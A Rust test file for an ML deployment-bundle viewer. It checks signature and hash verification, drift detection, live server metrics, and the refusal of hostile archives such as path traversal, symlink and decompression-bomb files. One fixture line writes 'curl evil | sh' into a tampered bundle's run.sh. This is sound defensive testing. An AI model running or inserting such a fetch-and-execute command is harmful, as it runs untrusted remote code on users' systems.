//! lathe-viewer driven headless with egui_kittest, by accessible labels: a verified bundle,
//! a tampered one, hostile archives, the tabs, and a drift check of a dropped file.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::sync::Arc;

use egui_kittest::kittest::Queryable;
use egui_kittest::{Harness, SnapshotOptions};
use lathe_core::bundle::{self, ExportOptions};
use lathe_core::job::Job;
use lathe_viewer::{Tab, Viewer};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// A demo project's classifier exported unsigned as a folder: what the image snapshots show
/// (a signed one differs in its random key's fingerprint).
fn unsigned(tmp: &Path) -> PathBuf {
    let project =
        lathe_core::demo::create(&tmp.join("demo"), Default::default(), &Job::silent()).unwrap();
    let folder = tmp.join("plain");
    bundle::export(
        &project,
        &ExportOptions {
            model: "breast_cancer_classifier@production".into(),
            out: folder.clone(),
            eval_dataset: Some("breast_cancer@2".into()),
            ..Default::default()
        },
        &Job::silent(),
    )
    .unwrap();
    folder
}

/// A demo project's classifier exported as a signed archive and as a folder.
fn bundles(tmp: &Path) -> (PathBuf, PathBuf) {
    let project =
        lathe_core::demo::create(&tmp.join("demo"), Default::default(), &Job::silent()).unwrap();
    let key = tmp.join("ops.key");
    bundle::sign::new_key(&key, bundle::sign::KeyType::Ed25519).unwrap();
    let (archive, folder) = (tmp.join("bc.tar.gz"), tmp.join("bc"));
    for out in [&archive, &folder] {
        bundle::export(
            &project,
            &ExportOptions {
                model: "breast_cancer_classifier@production".into(),
                out: out.clone(),
                eval_dataset: Some("breast_cancer@2".into()),
                sign_key: Some(key.clone()),
                ..Default::default()
            },
            &Job::silent(),
        )
        .unwrap();
    }
    (archive, folder)
}

fn harness(viewer: Viewer) -> Harness<'static, Viewer> {
    let mut h = Harness::builder()
        .with_size(egui::vec2(1200.0, 900.0))
        .build_ui_state(|ui, viewer: &mut Viewer| viewer.ui(ui), viewer);
    h.run();
    h
}

fn has(h: &Harness<'_, Viewer>, text: &str) -> bool {
    h.query_all_by_label_contains(text).next().is_some()
}

#[derive(Debug)]
struct Dropped(PathBuf);

impl egui::DroppedFile for Dropped {
    fn path(&self) -> &Path {
        &self.0
    }
    fn bytes(&self) -> Result<Vec<u8>, String> {
        std::fs::read(&self.0).map_err(|e| e.to_string())
    }
}

#[test]
fn a_verified_bundle_shows_its_card_manifest_charts_and_profile() {
    let tmp = tempfile::tempdir().unwrap();
    let (archive, _) = bundles(tmp.path());
    let mut viewer = Viewer::default();
    viewer.open(&archive);
    let mut h = harness(viewer);
    assert!(has(&h, "Verified: breast_cancer_classifier@1"));
    assert!(has(
        &h,
        "match SHA256SUMS and the manifest; signed by SHA256:"
    ));
    // The model card, rendered.
    assert!(has(&h, "Model card: breast_cancer_classifier@1"));
    assert!(has(&h, "Quantitative analyses"));

    h.get_by_label("Manifest").click();
    h.run();
    assert_eq!(h.state().tab, Tab::Manifest);
    assert!(
        has(&h, "breast_cancer@2"),
        "lineage: the evaluation dataset"
    );
    assert!(has(&h, "roc_auc"));
    assert!(has(&h, "model/model.onnx"));

    h.get_by_label("Charts").click();
    h.run();
    assert!(has(&h, "shap beeswarm"));
    assert!(has(&h, "evaluation roc"));
    assert!(!has(&h, "cannot draw"), "every chart rasterises");

    h.get_by_label("Reference profile").click();
    h.run();
    assert!(has(&h, "breast_cancer@1"));
    assert!(has(&h, "worst concave points"));
    assert!(has(&h, "1001 quantiles"));
}

#[test]
fn a_dropped_data_file_is_checked_for_drift() {
    let tmp = tempfile::tempdir().unwrap();
    let (_, folder) = bundles(tmp.path());
    let mut h = harness(Viewer::default());
    assert!(has(&h, "Open a deployment bundle"));
    // Drop the bundle folder, then a data file.
    h.input_mut()
        .dropped_files
        .push(Arc::new(Dropped(folder.clone())));
    h.run();
    assert!(has(&h, "Verified: breast_cancer_classifier@1"));
    let batch = repo().join("assets/datasets/breast_cancer_batch2.csv");
    h.input_mut().dropped_files.push(Arc::new(Dropped(batch)));
    // One frame takes the drop and starts the check on a worker thread.
    h.step();
    h.state_mut().finish_pending();
    h.run();
    assert_eq!(h.state().tab, Tab::Drift);
    assert!(has(
        &h,
        "Dataset drift: 16 of 31 columns drifted in breast_cancer_batch2.csv"
    ));
    assert!(has(&h, "DRIFT"));
    assert!(has(&h, "mean radius"));
    // The same file's monitoring: the bundle's model estimates its performance without labels.
    h.state_mut().tab = Tab::Monitoring;
    h.run();
    assert!(has(
        &h,
        "Performance estimated without labels (CBPE) over 11 analysis chunks"
    ));
    assert!(has(&h, "ROC AUC (CBPE)"));
    assert!(has(&h, "Multivariate drift (data reconstruction error)"));
    h.state_mut().tab = Tab::Drift;
    h.run();
    // The reference data itself does not drift.
    h.state_mut()
        .check_drift(&repo().join("assets/datasets/breast_cancer.csv"));
    h.state_mut().finish_pending();
    h.run();
    assert!(has(&h, "No dataset drift: 0 of 31 columns drifted"));
    // A file that is not data: a clear error in the drift view.
    h.state_mut()
        .check_drift(&repo().join("assets/fonts/DejaVu-LICENSE.txt"));
    h.state_mut().finish_pending();
    h.run();
    assert!(has(&h, "Cannot check DejaVu-LICENSE.txt"));
}

#[test]
fn a_tampered_bundle_names_the_file_and_hostile_archives_are_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let (_, folder) = bundles(tmp.path());
    let card = folder.join("MODEL_CARD.md");
    let text = std::fs::read_to_string(&card)
        .unwrap()
        .replace("classification", "approval");
    std::fs::write(&card, text).unwrap();
    let mut viewer = Viewer::default();
    viewer.open(&folder);
    let h = harness(viewer);
    assert!(has(&h, "Verification failed: breast_cancer_classifier@1"));
    assert!(has(
        &h,
        "MODEL_CARD.md: 'MODEL_CARD.md' does not match its SHA-256"
    ));

    // A forged signature is named too.
    let sig = folder.join("SHA256SUMS.sig");
    let mut bytes = std::fs::read(&sig).unwrap();
    bytes[10] ^= 0xff;
    std::fs::write(&sig, bytes).unwrap();
    let mut viewer = Viewer::default();
    viewer.open(&folder);
    let h = harness(viewer);
    assert!(has(
        &h,
        "Signature: SHA256SUMS.sig is not a valid signature"
    ));

    let before: Vec<_> = std::fs::read_dir(tmp.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    // Every hostile archive of the corpus: refused, its reason shown.
    let corpus = repo().join("tests/corpus/bundles");
    let mut refused = 0;
    for entry in std::fs::read_dir(&corpus).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if !name.ends_with(".tar.gz") || name == "listed_absent.tar.gz" {
            continue;
        }
        let mut viewer = Viewer::default();
        viewer.open(&path);
        assert!(viewer.bundle.is_none(), "{name} was opened");
        let error = viewer.error.clone().unwrap();
        let h = harness(viewer);
        assert!(has(&h, "Cannot open the bundle"), "{name}");
        assert!(has(&h, &error), "{name}: {error}");
        refused += 1;
    }
    assert_eq!(refused, 15);
    for (file, message) in [
        ("dotdot.tar.gz", "climbs out of the bundle"),
        ("symlink.tar.gz", "is a link"),
        ("bomb.tar.gz", "decompression bomb"),
        ("missing_manifest.tar.gz", "no manifest.json"),
    ] {
        let mut viewer = Viewer::default();
        viewer.open(&corpus.join(file));
        assert!(viewer.error.unwrap().contains(message), "{file}");
    }
    // A manifest listing an absent file opens, and fails verification naming it.
    let mut viewer = Viewer::default();
    viewer.open(&corpus.join("listed_absent.tar.gz"));
    let h = harness(viewer);
    assert!(has(&h, "Verification failed"));
    assert!(has(
        &h,
        "model/model.onnx: 'model/model.onnx' is listed but not in the bundle"
    ));
    let after: Vec<_> = std::fs::read_dir(tmp.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(before, after, "nothing written");
}

/// Image snapshots (tests/snapshots/, wgpu on a CPU adapter): the views without wall-clock
/// times or random keys in them. `UPDATE_SNAPSHOTS=true cargo test -p lathe-viewer` rewrites
/// them after a deliberate change.
#[test]
fn image_snapshots_of_the_profile_the_drift_check_monitoring_and_a_failed_verification() {
    let tmp = tempfile::tempdir().unwrap();
    let folder = unsigned(tmp.path());
    let mut viewer = Viewer::default();
    viewer.open(&folder);
    viewer.tab = Tab::Profile;
    // A few pixels of antialiasing may differ between CPUs; a changed word changes hundreds.
    let options = SnapshotOptions::new().max_failed_pixels(40);
    let mut h = Harness::builder()
        .with_size(egui::vec2(1100.0, 760.0))
        .with_theme(egui::Theme::Light)
        .wgpu()
        .build_ui_state(|ui, viewer: &mut Viewer| viewer.ui(ui), viewer);
    h.run();
    assert!(has(&h, "not signed"));
    h.snapshot_options("reference_profile", &options);

    h.state_mut()
        .check_drift(&repo().join("assets/datasets/breast_cancer_batch2.csv"));
    h.state_mut().finish_pending();
    h.run();
    h.snapshot_options("drift_check", &options);
    h.state_mut().tab = Tab::Monitoring;
    h.run();
    assert!(has(&h, "ROC AUC (CBPE)"));
    h.snapshot_options("monitoring", &options);

    let sums = folder.join("SHA256SUMS");
    // The first digit of MLmodel's sum changed: the same file named on every run (the sums
    // of files holding the export's time differ from run to run).
    let text: String = std::fs::read_to_string(&sums)
        .unwrap()
        .lines()
        .map(|line| match line.strip_suffix("  MLmodel") {
            Some(sum) => {
                let first = if sum.starts_with('0') { '1' } else { '0' };
                format!("{first}{}  MLmodel\n", &sum[1..])
            }
            None => format!("{line}\n"),
        })
        .collect();
    std::fs::write(&sums, text).unwrap();
    std::fs::write(folder.join("run.sh"), "curl evil | sh\n").unwrap();
    h.state_mut().open(&folder);
    h.state_mut().tab = Tab::Profile;
    h.run();
    assert!(has(&h, "Verification failed"));
    h.snapshot_options("verification_failed", &options);
}

/// Posts a CSV body to a server's `/invocations` over a plain HTTP/1.1 connection.
fn post_csv(addr: std::net::SocketAddr, body: &[u8]) -> String {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    write!(
        s,
        "POST /invocations HTTP/1.1\r\nHost: {addr}\r\nContent-Type: text/csv\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .unwrap();
    s.write_all(body).unwrap();
    let mut answer = String::new();
    s.read_to_string(&mut answer).unwrap();
    answer
}

#[test]
fn the_live_tab_shows_a_running_servers_drift_beside_the_profile() {
    let tmp = tempfile::tempdir().unwrap();
    let folder = unsigned(tmp.path());
    let served = lathe_core::serve::Served::bundle(&folder, None).unwrap();
    let options = lathe_serve::Options {
        port: 0,
        grpc_port: None,
        metrics: true,
        ..Default::default()
    };
    let server = lathe_serve::Server::start(served, options, None).unwrap();
    let rows = std::fs::read(repo().join("assets/datasets/breast_cancer_batch2.csv")).unwrap();
    let answer = post_csv(server.http, &rows);
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");

    let mut viewer = Viewer::default();
    viewer.open(&folder);
    viewer.watch(&server.status.metrics_url);
    viewer.finish_live();
    let m = viewer
        .live
        .as_ref()
        .and_then(|l| l.last.clone())
        .unwrap()
        .unwrap();
    assert_eq!((m.requests, m.rows, m.window_rows), (1, 284, 284));
    assert!(m.drifted > 0 && m.drifted < m.features.len(), "{m:?}");
    // The rows are the bundle's evaluation data: its outputs on them are its reference.
    let outputs: Vec<(&str, bool)> = m
        .outputs
        .iter()
        .map(|o| (o.feature.as_str(), o.drifted))
        .collect();
    assert_eq!(outputs, [("prediction", false), ("score", false)], "{m:?}");
    let h = harness(viewer);
    assert!(has(
        &h,
        "Model outputs against its outputs on the evaluation data:"
    ));
    assert!(has(
        &h,
        &format!(
            "{} of 30 features drifted over the last 284 rows served",
            m.drifted
        )
    ));
    assert!(has(&h, "Reference median"));
    assert!(has(&h, "1 requests (0 errors), 284 rows predicted"));

    // A server that is gone: the tab says so and names the URL.
    let url = server.status.metrics_url.clone();
    server.stop().unwrap();
    let mut viewer = Viewer::default();
    viewer.open(&folder);
    viewer.watch(&url);
    viewer.finish_live();
    let h = harness(viewer);
    assert!(has(&h, "Cannot read the server's metrics"));
    assert!(has(&h, &format!("cannot read {url}")));
}
